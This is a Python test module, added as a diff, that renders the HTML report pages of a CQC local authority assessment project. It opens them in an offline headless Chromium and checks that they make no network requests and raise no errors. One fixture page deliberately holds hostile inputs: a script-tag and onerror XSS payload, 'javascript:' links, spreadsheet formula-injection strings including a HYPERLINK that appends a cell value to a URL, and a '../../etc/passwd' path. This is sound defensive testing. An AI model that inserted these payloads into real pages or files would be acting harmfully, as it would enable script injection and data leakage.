@@ -1,0 +1,370 @@
+"""A Chromium with the network off, and pages to open in it.
+
+The pages are made here, from the bundled snapshot and with every element a notebook can show, and
+one page whose every text is hostile. Without Chromium these tests skip and say so.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+from collections.abc import Callable, Iterator
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pandas as pd
+import pytest
+
+from cqclib import authorities, framework, page, paths, pipeline, report, tables
+from cqclib.charts import base
+
+FLAGS = (
+    "--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking "
+    "--disable-component-update --disable-sync"
+).split()
+HOSTILE = """<script>window.hacked=1</script><img src=x onerror="window.hacked=1">'"&"""
+FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
+LINKS = [
+    ("index.html", "Overview"),
+    ("national.html", "National picture"),
+    ("league_tables.html", "League tables"),
+    ("focus_kent.html", "Kent"),
+    ("how_to_read.html", "How to read this"),
+]
+NATIONAL: dict[str, Any] = {
+    "assessed": 72,
+    "authorities": 153,
+    "as_at": "2025-10-03",
+    "ratings": {"Outstanding": 2, "Good": 48, "Requires improvement": 21, "Inadequate": 1},
+    "first_month": "2024-05",
+    "last_month": "2025-10",
+    "second_sources": {
+        "authorities": 40,
+        "scores_compared": 300,
+        "scores_agree": 299,
+        "disagreements": [
+            {
+                "authority": "Kent",
+                "statement": "Assessing needs",
+                "snapshot": 2,
+                "second_source": 3,
+                "source_url": "https://www.cqc.org.uk/press-release/example",
+            }
+        ],
+    },
+}
+
+
+def chromium() -> str | None:
+    """Where Chromium is: ``CQC_CHROMIUM``, or on the path."""
+    names = ("chromium", "chromium-browser", "google-chrome")
+    chosen = os.environ.get("CQC_CHROMIUM", "")
+    return chosen or next((found for name in names if (found := shutil.which(name))), None)
+
+
+@pytest.fixture(scope="session")
+def browser() -> Iterator[Any]:
+    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+    found = chromium()
+    if found is None:
+        pytest.skip("no Chromium on this machine (apt-get install chromium, or set CQC_CHROMIUM)")
+    with sync_api.sync_playwright() as started:
+        running = started.chromium.launch(executable_path=found, args=FLAGS)
+        yield running
+        running.close()
+
+
+@pytest.fixture
+def complaints() -> list[str]:
+    """What the pages of a test reported as errors or asked the network for."""
+    return []
+
+
+@pytest.fixture
+def opened(browser: Any, complaints: list[str]) -> Iterator[Callable[..., Any]]:
+    """Opens a file at a width; afterwards no page may have asked for anything or complained."""
+    contexts: list[Any] = []
+
+    def open_page(path: Path, width: int = 1280, hash: str = "", **options: Any) -> Any:
+        context = browser.new_context(
+            viewport={"width": width, "height": 900}, accept_downloads=True, **options
+        )
+        context.set_offline(True)
+        contexts.append(context)
+        tab = context.new_page()
+        own = ("file:", "data:", "blob:")
+        tab.on("console", lambda m: complaints.append(m.text) if m.type == "error" else None)
+        tab.on("pageerror", lambda error: complaints.append(str(error)))
+        tab.on("request", lambda r: None if r.url.startswith(own) else complaints.append(r.url))
+        tab.goto(path.as_uri() + hash)
+        return tab
+
+    yield open_page
+    for context in contexts:
+        context.close()
+    assert complaints == []
+
+
+@pytest.fixture(scope="session")
+def assessments() -> pd.DataFrame:
+    """The bundled snapshot with the columns that a league table shows."""
+    rows = pd.read_csv(paths.PROJECT / "data" / "raw" / "2025-10-03" / "assessments.csv")
+    known = [authorities.by_code(code) for code in rows["ons_code"]]
+    keys = [one.key for one in framework.STATEMENTS]
+    rows["authority"] = [one.name for one in known]
+    rows["authority_type"] = [one.authority_type for one in known]
+    rows["region"] = [one.region for one in known]
+    rows["total"] = rows[keys].sum(axis=1)
+    rows["percent"] = [framework.overall_score(int(total)) for total in rows["total"]]
+    rows["rank"] = rows["total"].rank(method="min", ascending=False).astype(int)
+    return rows.sort_values(["total", "authority"], ascending=[False, True], ignore_index=True)
+
+
+@pytest.fixture(scope="session")
+def pages(tmp_path_factory: pytest.TempPathFactory, assessments: pd.DataFrame) -> Path:
+    """A folder with the five pages, and ``hostile.html``."""
+    folder = tmp_path_factory.mktemp("reports")
+    made = {
+        "national.html": _national(assessments),
+        "league_tables.html": _league(assessments),
+        "focus_kent.html": _focus(assessments),
+        "hostile.html": _hostile(assessments),
+    }
+    for name, notebook in made.items():
+        (folder / name).write_text(report.render(notebook, LINKS, name), encoding="utf-8")
+    entries = [
+        report.ReportEntry(
+            file,
+            label,
+            "Half of all authorities assessed",
+            "One sentence that says more.",
+            "For whoever asks how the nine statements compare.",
+            "National",
+        )
+        for file, label in LINKS[1:3]
+    ]
+    entries += [
+        report.ReportEntry(
+            f"focus_{one.slug}.html",
+            f"{one.name} report",
+            f"{one.name}: a finding",
+            "",
+            "",
+            "One authority",
+            one.name,
+            "Good",
+        )
+        for one in authorities.everyone()
+    ]
+    (folder / "index.html").write_text(report.index(entries, NATIONAL), encoding="utf-8")
+    guide = report.how_to_read(NATIONAL, LINKS)
+    (folder / "how_to_read.html").write_text(guide, encoding="utf-8")
+    return folder
+
+
+@pytest.fixture(scope="session")
+def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder with the real reports, built from the bundled snapshot."""
+    data, reports = (tmp_path_factory.mktemp(name) for name in ("data", "built"))
+    shutil.copytree(paths.PROJECT / "data" / "raw", data / "raw")
+    steps = "01_scrape 02_clean 03_national 04_focus_authority 05_league_tables".split()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("CQC_DATA_DIR", str(data))
+        patch.setenv("CQC_REPORTS_DIR", str(reports))
+        assert pipeline.main([word for step in steps for word in ("run", step)]) == 0
+    return reports
+
+
+@pytest.fixture
+def one_page(request: pytest.FixtureRequest) -> Path:
+    """The page of a test's parameter: "pages/hostile", "built/national"."""
+    folder, name = request.param.split("/")
+    return Path(request.getfixturevalue(folder)) / f"{name}.html"
+
+
+def shown(element: Any) -> nbformat.NotebookNode:
+    """A code cell that shows ``element``, as a run would leave it."""
+    data, metadata = element._repr_mimebundle_()
+    output = nbformat.v4.new_output("display_data", data=data, metadata=metadata)
+    return nbformat.v4.new_code_cell("element", outputs=[output])
+
+
+def drawn(name: str, title: str, labels: list[str], values: list[float]) -> nbformat.NotebookNode:
+    """A code cell with a bar chart and its title, as ``charts`` shows them."""
+    chart = _bars(name, title, labels, values)
+    facts = {
+        "name": chart.name,
+        "title": chart.title,
+        "subtitle": chart.subtitle,
+        "alt": chart.alt,
+        "source": chart.source,
+        "csv": chart.data.to_csv(index=False),
+    }
+    outputs = [
+        nbformat.v4.new_output(
+            "display_data",
+            data={"text/markdown": f"**{title}**  \nsubtitle"},
+            metadata={"cqc": {"role": "chart-title"}},
+        ),
+        nbformat.v4.new_output(
+            "display_data",
+            data={"image/svg+xml": chart.svg, "text/plain": chart.alt},
+            metadata={"image/svg+xml": {"cqc": facts}},
+        ),
+    ]
+    return nbformat.v4.new_code_cell("chart", outputs=outputs)
+
+
+@base.styled
+def _bars(name: str, title: str, labels: list[str], values: list[float]) -> base.Chart:
+    figure, axes = base.figure(0.4 * len(labels) + 0.8)
+    axes.barh(labels, values, color="#8a929c", edgecolor="#14181c")
+    axes.invert_yaxis()
+    return base.chart(
+        figure,
+        name=name,
+        title=title,
+        subtitle="Average score per statement, 72 authorities, 3 October 2025",
+        alt=f"{title}. " + "; ".join(map("{}: {}".format, labels, values)),
+        data=pd.DataFrame({"label": labels, "value": values}),
+    )
+
+
+def notebook(*cells: nbformat.NotebookNode | str) -> nbformat.NotebookNode:
+    """A notebook of these cells; text is Markdown."""
+    made = nbformat.v4.new_notebook()
+    made.cells = [nbformat.v4.new_markdown_cell(c) if isinstance(c, str) else c for c in cells]
+    return made
+
+
+def head(title: str, headline: str, *cards: tuple[str, str]) -> nbformat.NotebookNode:
+    """A code cell with the header of a page."""
+    kicker = "CQC local authority assessments · as at 3 October 2025 · 72 of 153 assessed"
+    standfirst = "Joint 61st of 72 on total score, level with 3 others; above 8, below 60."
+    return shown(
+        page.Header(
+            kicker, headline, standfirst, cards, title, date(2025, 10, 3), 72, 153, "2025-10-03"
+        )
+    )
+
+
+def _columns(extra: bool = True) -> list[tables.Column]:
+    return [
+        tables.Column("authority", "Authority", "link", url_key="report_url"),
+        tables.Column("overall_rating", "Rating", "rating"),
+        tables.Column("rank", "Rank", "number", "Ties share the best rank.", low_first=True),
+        tables.Column("total", "Total", "number", "Sum of the nine scores, of 36."),
+        tables.Column("percent", "Overall score", "number", "Total over 36 in %, rounded up."),
+        *(tables.Column(one.key, one.short, "score") for one in framework.STATEMENTS if extra),
+        tables.Column("report_month", "Reported", "month"),
+    ]
+
+
+def _statements() -> tuple[list[str], list[float]]:
+    return [one.name for one in framework.STATEMENTS], [2.3, 2.4, 2.5, 2.6, 2.9, 2.4, 2.6, 2.7, 2.8]
+
+
+def _national(rows: pd.DataFrame) -> nbformat.NotebookNode:
+    return notebook(
+        "# National picture",
+        head(
+            "National picture: CQC local authority assessments",
+            "Two thirds of the authorities assessed are good",
+            ("48 of 72", "rated good (67%)"),
+            ("2.60", "average score of 4"),
+            ("Partnerships", "strongest statement"),
+            ("Assessing needs", "weakest statement"),
+        ),
+        "## How the nine statements compare",
+        shown(
+            page.Prose(
+                "Partnerships and communities is scored highest. "
+                + page.link("How to read this", "how_to_read.html")
+            )
+        ),
+        drawn("statements", "Partnerships lead, assessing needs trails", *_statements()),
+        shown(page.Callout("The first and the last report are 17 months apart.")),
+        "## By region",
+        shown(page.Prose(["London has 20 of them.", "The North East has 6 of them."])),
+        drawn("regions", "Few regions differ", sorted(set(rows["region"])), [2.5] * 9),
+        "## Every authority",
+        shown(tables.Table("all", "Every authority assessed", _columns(), rows)),
+    )
+
+
+def _league(rows: pd.DataFrame) -> nbformat.NotebookNode:
+    return notebook(
+        head("League tables", "Two authorities are outstanding, one is inadequate"),
+        "## All scores",
+        shown(
+            tables.Table(
+                "league",
+                "All nine scores of every authority assessed, best total first",
+                _columns(),
+                rows,
+                note="Level totals share a rank.",
+                interactive=True,
+                filters=("overall_rating", "authority_type", "region"),
+                groups={
+                    theme.name: [framework.statement(n).key for n in theme.numbers]
+                    for theme in framework.THEMES
+                },
+            )
+        ),
+        "## A second table",
+        shown(
+            tables.Table("second", "Totals alone", _columns(False), rows.head(20), interactive=True)
+        ),
+    )
+
+
+def _focus(rows: pd.DataFrame) -> nbformat.NotebookNode:
+    near = rows[rows["region"] == "South East"]
+    return notebook(
+        head(
+            "Kent: CQC local authority assessment",
+            "Kent: requires improvement, 3 points short of good",
+            ("56", "overall score"),
+            ("2 of 9", "scored 3 or more"),
+            ("Bottom quarter", "of 72"),
+            ("7 of 15", "neighbours assessed"),
+        ),
+        drawn("profile", "Kent scores 3 in two statements", *_statements()),
+        "## Its neighbours",
+        shown(tables.Table("peers", "The South East", _columns(), near, highlight={"Kent"})),
+    )
+
+
+def _hostile(rows: pd.DataFrame) -> nbformat.NotebookNode:
+    rows = rows.head(4).copy()
+    rows["authority"] = [HOSTILE, FORMULA, "@SUM(1)", "../../etc/passwd " + "long" * 80]
+    rows["report_url"] = ["javascript:alert(1)", "https://example.org", "../../x.html", HOSTILE]
+    rows["region"] = [HOSTILE, FORMULA, "-1+1", "+x"]
+    columns = [
+        tables.Column("authority", HOSTILE, "link", HOSTILE, url_key="report_url"),
+        tables.Column("region", "Region", "text"),
+        tables.Column("total", "Total", "number"),
+    ]
+    chart = drawn("hostile", HOSTILE, [HOSTILE, FORMULA], [1, 2])
+    return notebook(
+        head(HOSTILE, HOSTILE, (HOSTILE, HOSTILE)),
+        f"## {HOSTILE}",
+        shown(page.Prose(HOSTILE + page.link(HOSTILE, "javascript:alert(1)"))),
+        shown(page.Callout(HOSTILE)),
+        chart,
+        shown(
+            tables.Table(
+                "bad",
+                HOSTILE,
+                columns,
+                rows,
+                note=HOSTILE,
+                interactive=True,
+                highlight={HOSTILE},
+                filters=("region",),
+                groups={HOSTILE: ["total"], "constructor": ["region"]},
+            )
+        ),
+    )
